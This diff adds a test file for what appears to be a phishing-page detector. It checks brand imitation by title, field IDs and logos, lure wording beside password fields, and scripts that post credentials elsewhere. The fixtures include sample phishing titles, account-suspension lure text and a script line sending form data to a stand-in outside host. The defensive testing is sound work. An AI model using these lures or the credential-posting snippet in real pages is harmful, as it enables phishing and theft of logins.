@@ -1,0 +1,137 @@
+import { describe, expect, test } from 'vitest';
+import { createJudgePage, type PageVerdict } from '../../../../server/verdicts/page/judge-page.ts';
+import { savedPage } from '../../../../server/verdicts/page/saved-page.ts';
+
+const judge = createJudgePage();
+const HOST = 'https://kj3-portal-app.com/x/';
+
+function judged(html: string, url = HOST): PageVerdict {
+  return judge(savedPage(html, url, () => ({ score: 0.5 })));
+}
+
+/** A log-in of nothing but fields, so that the title alone says whose it is. */
+function titled(title: string, body = '', url = HOST): PageVerdict {
+  const form = '<form method="post" action="next.php"><input name="u"><input type="password" name="p"></form>';
+  return judged(`<!doctype html><html><head><title>${title}</title></head><body>${body}${form}</body></html>`, url);
+}
+
+const codesOf = ({ reasons }: PageVerdict) => reasons.map(({ code }) => code);
+
+describe('a log-in in the name of a brand', () => {
+  test.each([
+    ['Loggen Sie sich bei PayPal ein', 'PayPal'],
+    ['Inicie sesión en su cuenta PayPal', 'PayPal'],
+    ['Zaloguj się do serwisu PayPal', 'PayPal'],
+    ['Gérez votre identifiant Apple', 'Apple'],
+    ['Instagram Verified Badge', 'Instagram'],
+    ['Excel Online - Secure Documents Sharing', 'Microsoft'],
+    ['Inloggen - Rabo Internetbankieren', 'Rabobank'],
+    ['UBS Switzerland - E-Banking login', 'UBS'],
+    ['Webmail Aruba', 'Aruba'],
+    ['Amazonログイン', 'Amazon'],
+    ['MyJCBログイン', 'JCB'],
+    ['Vpassログイン｜クレジットカードの三井住友カード', 'SMBC Card'],
+    ['네이버 : 로그인', 'Naver'],
+    ['신한은행 인터넷뱅킹 로그인', 'Shinhan'],
+    ['国家政务服务平台 - 登录', 'China government services'],
+    ['מצב משלוח - דואר ישראל', 'Israel Post'],
+    ['ธนาคารไทยพาณิชย์ เข้าสู่ระบบ', 'SCB'],
+    ['OTPdirekt - Belépés', 'OTP Bank'],
+    ['OP Ryhmä - Kirjaudu', 'OP Financial Group'],
+  ])('is known by the title “%s”', (title, name) => {
+    const { verdict, brand } = titled(title);
+    expect([verdict, brand?.name.toLowerCase(), brand?.relation]).toEqual([
+      'MALICIOUS',
+      name.toLowerCase(),
+      'imitated',
+    ]);
+  });
+
+  test.each([
+    'Instagram Downloader - Login',
+    'Login - WhatsApp Marketing Tool',
+    'Roblox Trading - Login',
+    'Sign in with Google - Somebody',
+    'Amazon Seller Reports | Login',
+    'Discord Bot Dashboard',
+    'DHL Versand Plugin – Anmelden',
+    'Orange County Library Login',
+    'Visa application centre - Login',
+    'How to log in to Netflix abroad',
+    'Connexion - Gestionnaire Airbnb',
+    'Ledger - Buchhaltung Login',
+    'Amazonアカウントでログイン',
+    '使用微信登录',
+    '카카오로 로그인',
+  ])('is not each that names one: “%s”', title => {
+    expect(titled(title).verdict).not.toBe('MALICIOUS');
+  });
+
+  test('is known by the names of its fields, where two of them are the brand’s own', () => {
+    const fields = (...ids: string[]) =>
+      `<title>Sign in</title><form action="n.php">${ids.map(id => `<input type="password" id="${id}">`).join('')}</form>`;
+    const copied = judged(fields('i0118', 'idSIButton9'));
+    expect([copied.verdict, copied.brand?.name]).toEqual(['MALICIOUS', 'Microsoft']);
+    expect(copied.brand?.evidence).toContain('i0118');
+    expect(judged(fields('i0118', 'password')).verdict).not.toBe('MALICIOUS');
+  });
+
+  test('is known by whose password is asked for', () => {
+    const asking = (hint: string) => judged(`<title>Video</title><input placeholder="${hint}" type="password">`);
+    expect(asking('Kata Sandi Facebook').brand?.evidence).toContain('field “kata sandi facebook”');
+    expect(asking('Password of your Facebook group planner').brand).toBe(null);
+  });
+
+  test('is known by its mark and what is said of it together, not by a mark beside another name', () => {
+    const mark = '<img alt="Assurance Maladie"><h1>Votre nouvelle carte vitale est disponible</h1>';
+    expect(titled('Renouvellement', mark).verdict).toBe('MALICIOUS');
+    expect(titled('KeyVault – Steam keys', '<img alt="Steam">').brand).toBe(null);
+  });
+
+  test('is known by a mark that its house stands behind', () => {
+    expect(titled('Badge', '<p>© 2025 Instagram from Meta</p><h1>Instagram</h1>').brand?.name).toBe('Instagram');
+  });
+
+  test('is known by a name that is a word besides where the whole name stands below', () => {
+    expect(titled('CAIXA - Acesse sua conta', '<p>Caixa Econômica Federal</p>').verdict).toBe('MALICIOUS');
+    expect(titled('CAIXA - Acesse sua conta', '<p>Caixa de ferramentas</p>').verdict).not.toBe('MALICIOUS');
+  });
+});
+
+describe('what is said beside a password', () => {
+  const appeal =
+    '<p>Your page has been scheduled for deletion for violating our standards. Submit an appeal within a day.</p>';
+
+  test.each([
+    ['English', appeal],
+    ['Hungarian', '<p>Fiókját felfüggesztettük. Kérjük, erősítse meg adatait.</p>'],
+    ['Thai', '<p>บัญชีของคุณถูกระงับชั่วคราว กรุณายืนยันตัวตน</p>'],
+    ['Korean', '<p>계정이 정지되었습니다. 본인 인증이 필요합니다.</p>'],
+    ['Vietnamese', '<p>Tài khoản của Quý khách tạm thời bị khóa. Vui lòng xác minh.</p>'],
+  ])('counts as a threat in whatever words: %s', (_, said) => {
+    expect(codesOf(titled('Help Center', said))).toContain('threat-beside-secrets');
+  });
+
+  test.each([
+    ['of the host’s own name', appeal, 'Kj3 portal app'],
+    ['where nobody is to do anything', '<p>Your session has expired.</p>', 'Members'],
+  ])('counts for nothing %s', (_, said, title) => {
+    expect(codesOf(titled(title, said))).not.toContain('threat-beside-secrets');
+  });
+
+  test('a password that ends is a mailbox’s only where there is a word of mail', () => {
+    expect(codesOf(titled('会員ログイン', '<p>パスワードの有効期限</p>'))).not.toContain('mailbox-lure');
+    expect(codesOf(titled('会員ログイン', '<p>メールボックス: パスワードの有効期限</p>'))).toContain('mailbox-lure');
+  });
+});
+
+describe('a program that a script sends to', () => {
+  const sending = (target: string) =>
+    codesOf(titled('Login', `<script>$.ajax({ type: 'POST', url: '${target}', data })</script>`));
+
+  test('counts on another site alone, and not where a service of its own is called', () => {
+    expect(sending('https://elsewhere.example/in.php')).toContain('secrets-to-program-elsewhere');
+    expect(sending('https://api.kj3-portal-app.com/in.php')).not.toContain('secrets-to-program-elsewhere');
+    expect(sending('https://api.elsewhere.example/v1/sessions')).not.toContain('secrets-to-program-elsewhere');
+  });
+});
